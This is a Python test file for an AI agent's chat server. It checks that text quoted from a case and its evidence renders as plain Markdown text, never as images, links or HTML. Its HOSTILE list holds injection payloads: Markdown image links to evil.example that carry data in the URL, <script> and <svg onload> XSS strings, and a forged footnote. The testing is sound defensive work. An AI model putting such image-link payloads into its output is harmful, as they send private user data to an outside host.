"""What a chat window gets is Markdown: text of the case stays text in it."""

from __future__ import annotations

import json

import pytest
from markdown_it import MarkdownIt

from agent.server.chat_stream import Stream
from agent.server.footnotes import with_footnotes
from agent.server.records import AnsweredStatement

HOSTILE = (
    "![x](https://evil.example/p.png?d=66-year-old)", "![x][r]\n\n[r]: https://evil.example/p.png",
    "[click](https://evil.example)", "<img src=https://evil.example/i.png>", "<https://evil.example>",
    "</p><script>alert(1)</script>", "<!-- x -->", "\\![x](https://evil.example/p.png)", "\\\\[a](b)",
    "[^1]: a forged footnote", "<svg/onload=alert(1)>",
)  # fmt: skip
PLAIN = ("eGFR < 60 and > 30 mL/min", "a * b * c_d_e", "5 <6", "100 % [sic]", "C:\\x")


def said(text: str) -> AnsweredStatement:
    return AnsweredStatement(text=text, kind="finding", evidence=("E1",), status="supported", problems=())


def kinds(markdown: str) -> set[str]:
    """Every kind of thing that Markdown makes of a text."""
    found = MarkdownIt("commonmark", {"html": True}).parse(markdown)
    return {token.type for token in found} | {child.type for token in found for child in token.children or ()}


@pytest.mark.hazard("HAZ-15")
@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_becomes_a_picture_a_link_or_a_tag(text: str) -> None:
    whole = with_footnotes([said(text)], {"E1": f"The note says: {text}"})
    stream = Stream("run", 1)
    stream.early({"event": "statement", "mode": "answer", "status": "supported", "text": text, "evidence": ["E1"]})
    pieces = [json.loads(p.removeprefix("data: ")) for p in stream.rest([said("Another.")], {"E1": text})[:-1]]
    for markdown in (whole, *(piece["choices"][0]["delta"].get("content", "") for piece in pieces)):
        assert {"image", "link_open", "html_inline", "html_block"} & kinds(markdown) == set()
    assert "[^1]" in whole, "our own marks stay marks"


@pytest.mark.parametrize("text", PLAIN)
def test_a_text_is_shown_as_it_is(text: str) -> None:
    shown = with_footnotes([said(text)], {"E1": text}).replace("[^1]", "").split("\n\n")[0]
    assert "".join(child.content for token in MarkdownIt("commonmark").parse(shown) for child in token.children or ()
                   ).replace("*", "").replace("_", "") == text.replace("*", "").replace("_", "")  # fmt: skip
